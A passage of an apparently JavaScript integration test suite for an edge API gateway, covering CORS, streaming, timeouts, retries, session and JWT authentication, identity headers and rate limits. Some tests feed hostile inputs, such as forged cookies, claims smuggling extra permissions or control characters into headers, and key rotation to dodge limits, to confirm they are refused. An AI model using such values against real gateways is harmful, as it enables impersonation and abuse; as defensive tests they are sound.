    for (const headers of [{ origin: "https://evil.example" }, { origin: "https://app.example.evil.example" }, {}]) {
      const answer = await worker.fetch("/gw/secure/things", { headers });
      assert.equal(answer.status, 401);
      assert.equal(answer.headers.get("access-control-allow-origin"), null, JSON.stringify(headers));
      assert.equal(answer.headers.get("access-control-allow-credentials"), null);
      await answer.arrayBuffer();
    }
    // The origin's own answers keep the origin's CORS headers (here none).
    const proxied = await worker.fetch("/gw/secure/things", { headers: { ...app, ...bearer(reader) } });
    assert.equal(proxied.status, 200);
    assert.equal(await proxied.text(), "the origin's");
    assert.equal(proxied.headers.get("access-control-allow-origin"), null);
    assert.equal(origin.requests.length, 1, "only the allowed request reached the origin");
  });

  test("a large upload streams to the origin intact and a response streams back before the origin finishes", async () => {
    origin.reset();
    const big = Buffer.alloc(3 * 1024 * 1024, "a");
    for (let i = 0; i < big.length; i += 4099) big[i] = 65 + (i % 26);
    origin.handle((req, body, res) => {
      res.writeHead(200, { "content-type": "text/plain" });
      res.end(createHash("sha256").update(body).digest("hex"));
    });
    const up = await worker.fetch("/gw/open/upload", { method: "PUT", headers: { "content-type": "application/octet-stream" }, body: big });
    assert.equal(up.status, 200);
    assert.equal(await up.text(), createHash("sha256").update(big).digest("hex"), "origin got every byte");

    let finish;
    const released = new Promise((r) => (finish = r));
    origin.handle(async (req, body, res) => {
      res.writeHead(200, { "content-type": "text/plain" });
      res.write("first-chunk;");
      await released;
      res.end("last-chunk");
    });
    const down = await worker.fetch("/gw/open/stream");
    const reader = down.body.getReader();
    const first = await reader.read();
    assert.equal(Buffer.from(first.value).toString(), "first-chunk;", "first chunk arrives while the origin is still writing");
    finish();
    let rest = "";
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      rest += Buffer.from(value).toString();
    }
    assert.equal(rest, "last-chunk");
    origin.reset();
  });

  test("on a cached route too, the timeout bounds the wait for the answer, not the reading of its body", async () => {
    // The sie route caches (short-sie) with a 300 ms timeout; the origin answers at once and streams for 900 ms.
    origin.handle(streamsFor900ms);
    const path = `/gw/sie/slow-body?${Date.now()}`;
    for (let round = 0; round < 2; round++) {
      const r = await worker.fetch(path);
      assert.equal(r.status, 200);
      assert.equal(await r.text(), "chunk-0;chunk-1;chunk-2;last", "the whole body");
      // Not whole within GATEWAY_CACHE_FILL_BODY_MS (600 ms here) after its headers: passed on to its requester,
      // not held, waited for or stored.
      assert.equal(r.headers.get("x-cache"), "MISS", `round ${round}`);
    }
    // The same with a declared length: the passed-on body streams chunk by chunk, marked so the edge does not hold
    // it back to compress it (as an unstored stream of unknown length always is).
    origin.handle(async (req, body, res) => {
      const parts = ["chunk-0;", "chunk-1;", "chunk-2;", "last"];
      res.writeHead(200, { "content-type": "text/plain", "content-length": parts.join("").length });
      for (const part of parts) {
        res.write(part);
        await delay(300);
      }
      res.end();
    });
    const declared = await worker.fetch(`/gw/sie/slow-body-declared?${Date.now()}`);
    assert.equal(declared.headers.get("x-cache"), "MISS");
    assert.equal(declared.headers.get("content-encoding"), "identity");
    assert.equal(await declared.text(), "chunk-0;chunk-1;chunk-2;last");
    origin.reset();
  });

  test("an unreachable origin answers 502, a slow one 504, both as JSON", async () => {
    const bad = await worker.fetch("/gw/nowhere");
    assert.equal(bad.status, 502);
    assert.equal((await bad.json()).error.code, "bad_gateway");
    origin.handle(async (req, body, res) => {
      await delay(1500);
      res.end("late");
    });
    const slow = await worker.fetch("/gw/slow");
    assert.equal(slow.status, 504);
    assert.equal((await slow.json()).error.code, "gateway_timeout");
    origin.reset();
  });

  test("an upload slower than the timeout reaches the origin whole: the timeout bounds a stall and the wait once it is sent", async () => {
    // The upload route's timeout is 1 s; the client sends 200 KiB in 8 parts 150 ms apart (over a second). (At
    // 400 ms, a loaded machine ran the client's 150 ms gaps past the timeout, and the upload was rightly 408.)
    const paced = (headers, { answerAfter = 0, head = 0, parts = 8, size = 25 * 1024, gap = 150, end = true } = {}) =>
      new Promise((resolve, reject) => {
        origin.handle(async (req, body, res) => {
          if (answerAfter) await delay(answerAfter);
          res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ length: body.length }));
        });
        const req = httpRequest(new URL("/gw/upload/file", worker.url), { method: "PUT", agent: false, headers }, (res) => {
          const chunks = [];
          res.on("data", (c) => chunks.push(c)).on("end", () => {
            req.destroy(); // an upload the answer cut short is not sent on
            resolve({ status: res.statusCode, body: Buffer.concat(chunks).toString() });
          });
        });
        req.on("error", reject);
        if (head) req.write(Buffer.alloc(head, "h"));
        let sent = 0;
        const next = () => {
          if (req.destroyed || req.writableEnded) return;
          if (sent === parts) return end ? req.end() : undefined;
          req.write(Buffer.alloc(size, "p"));
          sent += 1;
          setTimeout(next, gap);
        };
        next();
      });
    for (const headers of [{ "content-length": String(200 * 1024) }, {}]) {
      origin.reset();
      const r = await paced(headers);
      assert.equal(r.status, 200, `${JSON.stringify(headers)}: ${r.body}`);
      assert.deepEqual(JSON.parse(r.body), { length: 200 * 1024 }, "the whole body");
      const seen = lastRequest().headers;
      if (headers["content-length"]) assert.equal(seen["content-length"], String(200 * 1024), "sent with its length, not in chunks");
    }
    // Once the body is sent, the origin has the timeout to answer.
    const late = await paced({ "content-length": String(200 * 1024) }, { answerAfter: 2500 });
    assert.equal(late.status, 504);
    assert.equal(JSON.parse(late.body).error.code, "gateway_timeout");
    // A client that trickles (1 KiB every 150 ms: under 16 KiB in 1 s) past the inspected part, or stops
    // sending what it declared (before or after the inspected 64 KiB), is the one that stalled: 408, and no origin
    // connection is held for it.
    const trickle = { head: 70 * 1024, parts: 20, size: 1024, gap: 150 };
    for (const [what, headers, options] of [
      ["trickling", { "content-length": String(90 * 1024) }, trickle],
      ["chunked, trickling", {}, trickle],
      ["short before the inspected part", { "content-length": "100000" }, { head: 50_000, parts: 0, end: false }],
      ["short after the inspected part", { "content-length": "300000" }, { head: 200_000, parts: 0, end: false }],
    ]) {
      const r = await paced(headers, options);
      assert.equal(r.status, 408, `${what}: ${r.body}`);
      assert.equal(JSON.parse(r.body).error.code, "request_timeout", what);
    }
    origin.reset();
  });

  test("a client awaiting 100 Continue that sends nothing is answered 417, not 408: workerd never sends the 100", async () => {
    // The upload route's timeout is 1 s and its bodies are inspected by the WAF. curl, told 417 while it waits for
    // the 100, sends the request again without Expect (RFC 9110 §15.5.18); a 408 had it send the same one to wait again.
    origin.reset();
    const head = (length) =>
      `PUT /gw/upload/expect HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\nExpect: 100-continue\r\n\r\n`;
    const asked = () => origin.requests.filter((r) => r.path === "/gw/upload/expect");
    const { hostname, port } = new URL(worker.url);
    const exchange = (parts) =>
      new Promise((resolve, reject) => {
        const sock = connect(Number(port), hostname);
        let text = "";
        sock.on("data", (d) => {
          text += d.toString("latin1");
          const split = text.indexOf("\r\n\r\n");
          if (split < 0) return;
          const [headText, body] = [text.slice(0, split), text.slice(split + 4)];
          const length = /content-length: (\d+)/i.exec(headText)?.[1];
          // A JSON error says its length; the origin's answer streams back chunked.
          if (length ? Buffer.byteLength(body) >= Number(length) : body.endsWith("0\r\n\r\n")) {
            sock.destroy();
            resolve({ status: Number(headText.split(" ")[1]), body });
          }
        });
        sock.on("error", reject);
        sock.on("connect", () => parts.forEach((part) => sock.write(part)));
      });
    for (const [what, parts, status, code] of [
      ["nothing sent", [head(20)], 417, "expectation_failed"],
      // One that sends part of its body without waiting stalled itself: as without Expect.
      ["part sent", [head(20), '{"a":'], 408, "request_timeout"],
    ]) {
      const r = await exchange(parts);
      assert.equal(r.status, status, `${what}: ${r.body}`);
      assert.equal(JSON.parse(r.body).error.code, code, what);
      assert.equal(asked().length, 0, `${what}: the origin was never asked`);
    }
    // One that sends its body anyway, as it may, is served.
    const sent = await exchange([head(9), '{"a":"b"}']);
    assert.equal(sent.status, 200, sent.body);
    assert.deepEqual(asked().map((r) => r.body.toString()), ['{"a":"b"}']);
    origin.reset();
  });

  test("on a route whose bodies stream unread (waf_body off), a client awaiting 100 Continue that sends nothing is answered 417 too", async () => {
    // raw-quick's timeout is 1 s. Its body goes to the origin as it comes; the origin is asked once a byte came.
    origin.reset();
    const head = (length) =>
      `PUT /gw/raw-quick/expect HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Length: ${length}\r\nExpect: 100-continue\r\n\r\n`;
    const waited = await onOneConnection(worker.url, [head(20)], { what: "the answer to a client awaiting 100 Continue" });
    assert.deepEqual(waited.statuses, [417], "not 408, which has curl send the same request to wait again");
    assert.equal(origin.requests.length, 0, "the origin is not sent a request whose body never comes");
    const sent = await onOneConnection(worker.url, [head(5), "hello"], { what: "the answer to a client that sent its body anyway" });
    assert.deepEqual(sent.statuses, [200]);
    assert.deepEqual(origin.requests.map((r) => [r.path, r.body.toString()]), [["/gw/raw-quick/expect", "hello"]]);
    origin.reset();
  });

  test("the timeout bounds the wait for the origin's answer, not the streaming of its body", async () => {
    // The slow route's timeout is 300 ms; the origin answers at once and keeps streaming for 900 ms.
    origin.handle(streamsFor900ms);
    const r = await worker.fetch("/gw/slow/stream");
    assert.equal(r.status, 200);
    assert.equal(await r.text(), "chunk-0;chunk-1;chunk-2;last", "the whole body arrives after the timeout has passed");
    origin.reset();
  });

  test("idempotent methods are retried after a connection failure, each attempt a span of its own; POST is not", async () => {
    let calls = 0;
    origin.reset();
    origin.handle((req, body, res) => {
      calls += 1;
      if (calls === 1) return req.socket.destroy();
      res.end("second try");
    });
    const get = await worker.fetch("/gw/open/flaky", { headers: { traceparent: "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01" } });
    assert.equal(get.status, 200);
    assert.equal(await get.text(), "second try");
    assert.equal(calls, 2, "one retry");
    // W3C Trace Context: each request the origin receives is its own span — the same trace and flags, a new parent-id.
    const [first, retry] = origin.requests.map((r) => r.headers.traceparent);
    for (const sent of [first, retry]) assert.match(sent, /^00-4bf92f3577b34da6a3ce929d0e0e4736-[0-9a-f]{16}-01$/);
    assert.notEqual(retry.split("-")[2], first.split("-")[2], "the retry's span is not the failed attempt's");
    assert.ok(![first, retry].some((sent) => sent.includes("00f067aa0ba902b7")), "neither is the caller's span");
    // The answer names the span the edge gave the request — its first origin request's (README: Gateway).
    assert.equal(get.headers.get("traceparent"), first, "the answer's traceparent is the request's span");
    calls = 0;
    const post = await worker.fetch("/gw/open/flaky", { method: "POST", body: "x", headers: { "content-type": "text/plain" } });
    assert.equal(post.status, 502);
    await post.arrayBuffer();
    assert.equal(calls, 1, "POST is never retried");
    origin.reset();
  });

  test("timeout_ms bounds each attempt: a retried timeout answers 504 saying how often the origin was asked, every attempt with the request's id", async () => {
    // The retried route's timeout is 300 ms and it retries once: a client waits for two attempts, not 300 ms.
    origin.reset();
    let calls = 0;
    origin.handle(async (req, body, res) => {
      calls += 1;
      if (calls === 1) await delay(1000);
      res.end(`attempt ${calls}`);
    });
    const saved = await worker.fetch("/gw/retried/x", { method: "PUT", body: "same", headers: { "x-request-id": "retry-probe-1" } });
    assert.equal(saved.status, 200);
    assert.equal(await saved.text(), "attempt 2", "the retry's answer");
    assert.deepEqual(
      origin.requests.map((r) => [r.method, r.headers["x-request-id"], r.body.toString()]),
      [["PUT", "retry-probe-1", "same"], ["PUT", "retry-probe-1", "same"]],
      "each attempt carries the request's id and its whole body",
    );
    origin.reset();
    origin.handle(async (req, body, res) => {
      await delay(1000);
      res.end("late");
    });
    const late = await worker.fetch("/gw/retried/y", { headers: { "x-request-id": "retry-probe-2" } });
    assert.equal(late.status, 504);
    assert.equal(late.headers.get("x-request-id"), "retry-probe-2");
    assert.match(late.headers.get("server-timing") ?? "", /edge;dur=\d+/);
    assert.deepEqual(await late.json(), {
      error: { code: "gateway_timeout", message: "the origin did not answer within 300 ms, asked 2 times" },
    });
    assert.equal(origin.requests.length, 2, "asked once more after the first timeout");
    origin.reset();
  });

  test("session routes admit the session cookie; jwt_or_session admits either; both set identity headers", async () => {
    const { accessToken, cookie } = await login();
    const none = await worker.fetch("/gw/session");
    assert.equal(none.status, 401);
    assert.equal((await none.json()).error.code, "session_required");
    // A route that also takes a bearer token names that scheme in its 401 (RFC 9110 §11.6.1).
    const neither = await worker.fetch("/gw/either");
    assert.equal(neither.status, 401);
    assert.equal(neither.headers.get("www-authenticate"), "Bearer");
    assert.equal((await neither.json()).error.code, "session_required");
    const forged = await worker.fetch("/gw/session", { headers: { cookie: "__Host-edgekit_session=forged" } });
    assert.equal(forged.status, 401, "an unknown session is refused");
    await forged.arrayBuffer();

    origin.reset();
    const ok = await worker.fetch("/gw/session", { headers: { cookie, "x-user-id": "someone-else" } });
    assert.equal(ok.status, 200);
    await ok.arrayBuffer();
    const seen = lastRequest().headers;
    assert.ok(seen["x-user-id"] && seen["x-user-id"] !== "someone-else", "identity comes from the session");
    assert.equal(seen["x-user-email"], ALICE.email);

    const byToken = await worker.fetch("/gw/either", { headers: bearer(accessToken) });
    assert.equal(byToken.status, 200, "the issuer's access JWT passes the gateway's jwt check");
    await byToken.arrayBuffer();
    assert.equal(lastRequest().headers["x-user-id"], seen["x-user-id"], "same user by token and by cookie");
    const byCookie = await worker.fetch("/gw/either", { headers: { cookie } });
    assert.equal(byCookie.status, 200);
    await byCookie.arrayBuffer();
    const basicBeside = await worker.fetch("/gw/either", { headers: { cookie, authorization: "Basic b3JpZ2luOnNlY3JldA==" } });
    assert.equal(basicBeside.status, 200, "another scheme (meant for the origin) leaves the decision to the cookie");
    await basicBeside.arrayBuffer();
    const badToken = await worker.fetch("/gw/either", { headers: { cookie, ...bearer("not.a.token") } });
    assert.equal(badToken.status, 401, "a bearer token that is sent decides, even beside a good cookie");
    assert.match(badToken.headers.get("www-authenticate"), /^Bearer error="invalid_token"/);
    await badToken.arrayBuffer();

    const out = await worker.fetch("/auth/logout", { method: "POST", headers: { cookie } });
    assert.equal(out.status, 204);
    await out.arrayBuffer();
    const after = await worker.fetch("/gw/session", { headers: { cookie } });
    assert.equal(after.status, 401, "a revoked session no longer passes");
    await after.arrayBuffer();
  });

  test("identity headers reach the origin as sent: values no header carries faithfully are refused, an email is percent-encoded", async () => {
    // Header bytes outside ASCII have no agreed reading (RFC 9110 §5.5: obs-text; Node reads latin-1): "日本" or "é"
    // arrived as mojibake, and an origin splitting X-User-Permissions or comparing X-User-ID saw another identity.
    const describeOf = (r) => /error_description="([^"]*)"/.exec(r.headers.get("www-authenticate") ?? "")?.[1];
    for (const [name, overrides, claim] of [
      ["non-ASCII sub", { sub: "日本" }, "sub"],
      ["latin-1 sub", { sub: "josé" }, "sub"],
      ["non-ASCII permission", { permissions: ["read", "lecture-é"] }, "permissions"],
      ["comma in a permission", { permissions: ["read,admin"] }, "permissions"],
      ["tab in a permission", { permissions: ["read\tadmin"] }, "permissions"],
      ["control character in sub", { sub: "u1\u0007" }, "sub"],
      ["surrounding space in sub", { sub: "u1 " }, "sub"],
      ["control character in email", { email: "a@b.c\n" }, "email"],
    ]) {
      origin.reset();
      const r = await worker.fetch("/gw/secure", { headers: bearer(token(keys, "ed1", overrides)) });
      assert.equal(r.status, 401, name);
      assert.match(r.headers.get("www-authenticate"), /^Bearer error="invalid_token"/, name);
      const description = describeOf(r);
      assert.ok(description?.includes(`claim ${claim} `), `${name}: ${description}`);
      const text = await r.text();
      for (const value of [overrides.sub, ...(overrides.permissions ?? [])].filter(Boolean)) {
        if (value !== "read") assert.ok(!text.includes(value) && !description.includes(value), `${name}: value not echoed`);
      }
      assert.equal(origin.requests.length, 0, `${name}: the origin is not asked`);
    }
    // A comma or an inner space in sub is carried as is: X-User-ID is one value, not a list.
    origin.reset();
    const dn = await worker.fetch("/gw/secure", {
      headers: bearer(token(keys, "ed1", { sub: "CN=Ann Lee,O=Example", email: "josé.ñ@例え.jp", permissions: ["read", "users:write"] })),
    });
    assert.equal(dn.status, 200);
    await dn.arrayBuffer();
    const seen = lastRequest().headers;
    assert.equal(seen["x-user-id"], "CN=Ann Lee,O=Example");
    assert.equal(seen["x-user-permissions"], "read,users:write");
    assert.equal(seen["x-user-email"], "jos%C3%A9.%C3%B1@%E4%BE%8B%E3%81%88.jp", "percent-encoded UTF-8 (RFC 3986 §2.1)");
    assert.equal(decodeURIComponent(seen["x-user-email"]), "josé.ñ@例え.jp");
    // `%` itself is encoded, so a decoded value is always the one sent; an ASCII email otherwise arrives unchanged.
    origin.reset();
    const percent = await worker.fetch("/gw/secure", { headers: bearer(token(keys, "ed1", { email: "a%C3%A9+b@example.com" })) });
    assert.equal(percent.status, 200);
    await percent.arrayBuffer();
    assert.equal(lastRequest().headers["x-user-email"], "a%25C3%25A9+b@example.com");
    assert.equal(decodeURIComponent(lastRequest().headers["x-user-email"]), "a%C3%A9+b@example.com");
  });

  test("a session user's UTF-8 email reaches the origin percent-encoded; a user id or permission no header carries is not sent", async () => {
    // The login flow admits UTF-8 addresses (RFC 6531: lower-cased, NFC), so an account can hold one.
    const db = await worker.mf.getD1Database("DB");
    const password = "rené-demo-password";
    const h = await hashPassword(password);
    const insert = (id, email, permissions) =>
      db.prepare(`INSERT OR REPLACE INTO users (id, email, password_algorithm, password_iterations, password_salt, password_hash,
           permissions, created_at) VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8)`)
        .bind(id, email, h.algorithm, h.iterations, h.salt, h.hash, JSON.stringify(permissions), Date.now()).run();
    const signIn = async (email) => {
      const r = await worker.fetch("/auth/login", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ email, password }) });
      assert.equal(r.status, 200, `login ${email}`);
      const { access_token: accessToken } = await r.json();
      return { accessToken, cookie: /__Host-edgekit_session=[^;]*/.exec(r.headers.get("set-cookie"))[0] };
    };
    await insert("user-rene", "rené@exämple.com", ["read", "lecture-é"]);
    const rene = await signIn("rené@exämple.com");
    origin.reset();
    const bySession = await worker.fetch("/gw/session", { headers: { cookie: rene.cookie } });
    assert.equal(bySession.status, 200);
    await bySession.arrayBuffer();
    const seen = lastRequest().headers;
    assert.equal(seen["x-user-id"], "user-rene");
    assert.equal(seen["x-user-email"], "ren%C3%A9@ex%C3%A4mple.com");
    assert.equal(seen["x-user-permissions"], "", "a permissions column holding a non-ASCII name holds none");
    // Its access token passes the gateway's JWT check and says the same.
    const byToken = await worker.fetch("/gw/either", { headers: bearer(rene.accessToken) });
    assert.equal(byToken.status, 200, "the issuer's token for a UTF-8 email passes");
    await byToken.arrayBuffer();
    assert.equal(lastRequest().headers["x-user-email"], "ren%C3%A9@ex%C3%A4mple.com");
    assert.equal(lastRequest().headers["x-user-permissions"], "");

    // A user id that X-User-ID cannot carry: the gateway does not send it (500, logged), as its token is refused.
    await insert("usuário-7", "u7@example.com", ["read"]);
    const u7 = await signIn("u7@example.com");
    origin.reset();
    const refused = await worker.fetch("/gw/session", { headers: { cookie: u7.cookie } });
    assert.equal(refused.status, 500);
    const body = await refused.text();
    assert.equal(JSON.parse(body).error.code, "internal_error");
    assert.ok(!body.includes("usuário"), "the id is not echoed");
    const tokenRefused = await worker.fetch("/gw/either", { headers: bearer(u7.accessToken) });
    assert.equal(tokenRefused.status, 401);
    assert.match(tokenRefused.headers.get("www-authenticate"), /error_description="token claim sub /);
    await tokenRefused.arrayBuffer();
    assert.equal(origin.requests.length, 0, "the origin is not asked");
  });

  // Users for the two tests below, with one password.
  const identUsers = async () => {
    const db = await worker.mf.getD1Database("DB");
    const password = "ident-demo-password";
    const h = await hashPassword(password);
    const insert = (id, email) =>
      db.prepare(`INSERT OR REPLACE INTO users (id, email, password_algorithm, password_iterations, password_salt, password_hash,
           permissions, created_at) VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8)`)
        .bind(id, email, h.algorithm, h.iterations, h.salt, h.hash, JSON.stringify(["read"]), Date.now()).run();
    const signIn = async (email) => {
      const r = await worker.fetch("/auth/login", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ email, password }) });
      assert.equal(r.status, 200, `login ${email}`);
      const { access_token: accessToken } = await r.json();
      return { accessToken, cookie: /__Host-edgekit_session=[^;]*/.exec(r.headers.get("set-cookie"))[0] };
    };
    return { db, insert, signIn };
  };

  test("a session user X-User-ID could not name is flagged at login", async () => {
    const { db, insert, signIn } = await identUsers();
    // The login says so at once (the operator learns it there, not from the first gateway route's 500).
    await insert("usuário-8", "u8@example.com");
    await signIn("u8@example.com");
    await until(() => worker.jsonLogs().find((l) => l.msg === "user id X-User-ID cannot carry" && l.user_id === "usuário-8"),
      { what: "the login's log line" });
    await db.prepare("DELETE FROM users WHERE id = 'usuário-8'").run();
  });

  test("an empty users.id is refused as a token without a subject is, never sent as an empty X-User-ID", async () => {
    const { db, insert, signIn } = await identUsers();
    // An empty id: a token minted for it has no subject (refused 401); the session is not sent as an empty X-User-ID
    // (an origin would take it for no user, or every such user for one), nor limited as no one.
    await insert("", "nobody@example.com");
    const nobody = await signIn("nobody@example.com");
    origin.reset();
    const bySession = await worker.fetch("/gw/session", { headers: { cookie: nobody.cookie } });
    assert.equal(bySession.status, 500, "not sent");
    assert.equal((await bySession.json()).error.code, "internal_error");
    const byToken = await worker.fetch("/gw/either", { headers: bearer(nobody.accessToken) });
    assert.equal(byToken.status, 401);
    assert.match(byToken.headers.get("www-authenticate"), /error_description="token has no subject"/);
    await byToken.arrayBuffer();
    assert.equal(origin.requests.length, 0, "the origin is not asked");
    await db.prepare("DELETE FROM users WHERE id = ''").run();
  });

  test("a session cache entry holding a permission no header carries is not believed: the column is read by today's rule", async () => {
    // An entry written before the rule (a deploy within SESSION_CACHE_SECS, up to an hour) held "lecture-é", which
    // reached the origin as mojibake.
    const db = await worker.mf.getD1Database("DB");
    const kv = await worker.mf.getKVNamespace("CONFIG_KV");
    const password = "stale-entry-password";
    const h = await hashPassword(password);
    await db.prepare(`INSERT OR REPLACE INTO users (id, email, password_algorithm, password_iterations, password_salt, password_hash,
         permissions, created_at) VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8)`)
      .bind("user-stale", "stale@example.com", h.algorithm, h.iterations, h.salt, h.hash, JSON.stringify(["read", "lecture-é"]), Date.now()).run();
    const r = await worker.fetch("/auth/login", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ email: "stale@example.com", password }) });
    assert.equal(r.status, 200);
    await r.arrayBuffer();
    const value = /__Host-edgekit_session=([^;]*)/.exec(r.headers.get("set-cookie"))[1];
    const key = `session:${createHash("sha256").update(value).digest("hex")}`;
    const entry = JSON.parse(await kv.get(key));
    assert.deepEqual(entry.permissions, [], "login read the column by the rule");
    await kv.put(key, JSON.stringify({ ...entry, permissions: ["read", "lecture-é"] }), { expirationTtl: 60 });
    origin.reset();
    const seen = await worker.fetch("/gw/session", { headers: { cookie: `__Host-edgekit_session=${value}` } });
    assert.equal(seen.status, 200);
    await seen.arrayBuffer();
    assert.equal(lastRequest().headers["x-user-permissions"], "", "D1's reading, not the entry's");
    await db.prepare("DELETE FROM users WHERE id = 'user-stale'").run();
  });

  test("a session user's email with control characters is not sent, as a token carrying it is refused", async () => {
    // The gateway's JWT check refuses a token whose email has control characters or surrounding spaces (no address
    // has them); a session naming the same email sent it on, percent-encoded (`u10@example.com%07`). A users.email
    // edited after login reaches the session's record by its next read; here the cached record is edited instead.
    const { db, insert, signIn } = await identUsers();
    const kv = await worker.mf.getKVNamespace("CONFIG_KV");
    await insert("user-ctl", "ctl@example.com");
    const { cookie, accessToken } = await signIn("ctl@example.com");
    const value = cookie.split("=")[1];
    const key = `session:${createHash("sha256").update(value).digest("hex")}`;
    const entry = JSON.parse(await kv.get(key));
    for (const email of ["ctl@example.com\u0007", " ctl@example.com", "ctl@example.com\n"]) {
      await kv.put(key, JSON.stringify({ ...entry, email }), { expirationTtl: 60 });
      origin.reset();
      const r = await worker.fetch("/gw/session", { headers: { cookie } });
      const body = await r.text();
      assert.equal(r.status, 500, `${JSON.stringify(email)}: not sent (${body})`);
      assert.equal(JSON.parse(body).error.code, "internal_error");
      assert.ok(!body.includes("ctl@"), "the email is not echoed");
      assert.equal(origin.requests.length, 0, "the origin is not asked");
    }
    // The token carrying the address as it was still passes; one carrying the bad address is refused (unchanged).
    const ok = await worker.fetch("/gw/either", { headers: bearer(accessToken) });
    assert.equal(ok.status, 200);
    await ok.arrayBuffer();
    await db.prepare("DELETE FROM users WHERE id = 'user-ctl'").run();
  });

  test("a rate-limited route admits exactly its limit per user, with RateLimit headers, then 429", async () => {
    origin.reset();
    // The origin's own RateLimit headers are replaced: the client sees the gateway's limit, not a mix.
    origin.handle((req, body, res) => {
      res.writeHead(200, { "content-type": "application/json", "ratelimit-policy": '"origin";q=1000;w=1', ratelimit: '"origin";r=999;t=1' });
      res.end("{}");
    });
    const alice = token(keys, "ed1", { sub: "limit-alice" });
    const bob = token(keys, "ed1", { sub: "limit-bob" });
    const statuses = [];
    for (let i = 0; i < 5; i++) {
      const r = await worker.fetch("/gw/limited", { headers: bearer(alice) });
      statuses.push(r.status);
      assert.equal(r.headers.get("ratelimit-policy"), '"gw-user";q=3;w=60');
      if (r.status === 200) assert.match(r.headers.get("ratelimit"), new RegExp(`^"gw-user";r=${2 - i};t=\\d+$`));
      else {
        assert.equal((await r.clone().json()).error.code, "rate_limited");
        assert.match(r.headers.get("retry-after"), /^\d+$/);
      }
      await r.arrayBuffer();
    }
    assert.deepEqual(statuses, [200, 200, 200, 429, 429]);
    assert.equal(origin.requests.filter((r) => r.path === "/gw/limited").length, 3, "refused requests never reach the origin");
    const other = await worker.fetch("/gw/limited", { headers: bearer(bob) });
    assert.equal(other.status, 200, "another user has their own limit");
    await other.arrayBuffer();
    const anonymous = await worker.fetch("/gw/limited");
    assert.equal(anonymous.status, 401, "authentication comes before the limit");
    await anonymous.arrayBuffer();

    // A user id longer than the limiter object takes as a key (512 bytes) is still limited — on a fail-open policy,
    // where the object's refusal of the key used to let every request through.
    const long = token(keys, "ed1", { sub: `long-${"x".repeat(600)}` });
    const longStatuses = [];
    for (let i = 0; i < 5; i++) {
      const r = await worker.fetch("/gw/limited-open", { headers: bearer(long) });
      longStatuses.push(r.status);
      await r.arrayBuffer();
    }
    assert.deepEqual(longStatuses, [200, 200, 200, 429, 429]);
    origin.reset();
  });

  test("a route naming several rate limits applies them all: new API keys do not escape the per-IP limit", async () => {
    origin.reset();
    const ask = (key, ip) => worker.fetch("/gw/keyed", { headers: { "x-api-key": key, "cf-connecting-ip": ip } });
    const policies = '"gw-ip";q=4;w=60, "gw-key";q=2;w=60';
    // One key is limited by its own policy first (2), and the refusal names it.
    const seen = [];
    for (const i of [1, 2, 3]) {
      const r = await ask("key-a", "192.0.2.1");
      seen.push(r.status);
      if (r.status === 200) {
        assert.equal(r.headers.get("ratelimit-policy"), policies, `key-a #${i}: both policies listed`);
        assert.match(r.headers.get("ratelimit"), new RegExp(`^"gw-ip";r=${4 - i};t=\\d+, "gw-key";r=${2 - i};t=\\d+$`), `key-a #${i}`);
      } else {
        const body = await r.clone().json();
        assert.equal(body.error.code, "rate_limited");
        assert.match(body.error.message, /`gw-key`/, "the key's limit refused it");
        assert.equal(r.headers.get("ratelimit-policy"), policies, "the 429 lists the policy that counted it too");
        assert.match(r.headers.get("ratelimit"), /^"gw-ip";r=1;t=\d+, "gw-key";r=0;t=\d+$/);
      }
      await r.arrayBuffer();
    }
    assert.deepEqual(seen, [200, 200, 429]);
    // A fresh key per request from the same address: the per-IP limit (4; three used above — the per-IP policy,
    // asked first, counted the request the key's limit then refused) refuses the second.
    const rotated = [];
    for (const key of ["key-b", "key-c", "key-d"]) {
      const r = await ask(key, "192.0.2.1");
      rotated.push(r.status);
      if (r.status === 429) assert.match((await r.clone().json()).error.message, /`gw-ip`/, `${key}: the IP's limit refused it`);
      await r.arrayBuffer();
    }
    assert.deepEqual(rotated, [200, 429, 429]);
    assert.equal(origin.requests.filter((r) => r.path === "/gw/keyed").length, 3, "refused requests never reach the origin");
    // Another address with a fresh key still passes.
    const other = await ask("key-e", "192.0.2.2");
    assert.equal(other.status, 200, "another address");
    await other.arrayBuffer();
    // Without a key nothing is counted, not even by the per-IP policy: four keyless requests, then four with keys.
    const keyless = [];
    for (let i = 0; i < 4; i++) {
      const r = await worker.fetch("/gw/keyed", { headers: { "cf-connecting-ip": "192.0.2.3" } });
      keyless.push(`${r.status} ${(await r.json()).error?.code}`);
    }
    assert.deepEqual(keyless, Array(4).fill("401 api_key_required"));
    const afterKeyless = [];
    for (const key of ["key-f", "key-g", "key-h", "key-i"]) {
      const r = await ask(key, "192.0.2.3");
      afterKeyless.push(r.status);
      await r.arrayBuffer();
    }
    assert.deepEqual(afterKeyless, [200, 200, 200, 200], "the address's limit untouched by the keyless requests");
    origin.reset();
  });
});

describe("trace propagation", () => {
  test("a valid traceparent is continued with a new span; an invalid one starts a new trace", async () => {
    origin.reset();
    const parent = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
    const r = await worker.fetch("/gw/open/t", { headers: { traceparent: parent } });
    await r.arrayBuffer();
    const sent = lastRequest().headers.traceparent;
    assert.match(sent, /^00-4bf92f3577b34da6a3ce929d0e0e4736-[0-9a-f]{16}-01$/);
    assert.notEqual(sent.split("-")[2], "00f067aa0ba902b7", "new span id");
    assert.equal(r.headers.get("x-trace-id"), "4bf92f3577b34da6a3ce929d0e0e4736");
    for (const bad of ["garbage", "00-00000000000000000000000000000000-00f067aa0ba902b7-01", undefined]) {
      const n = await worker.fetch("/gw/open/t", { headers: bad ? { traceparent: bad } : {} });
      await n.arrayBuffer();
      const fresh = lastRequest().headers.traceparent;
      assert.match(fresh, /^00-[0-9a-f]{32}-[0-9a-f]{16}-01$/, `${bad}`);
      assert.notEqual(fresh.split("-")[1], "4bf92f3577b34da6a3ce929d0e0e4736");
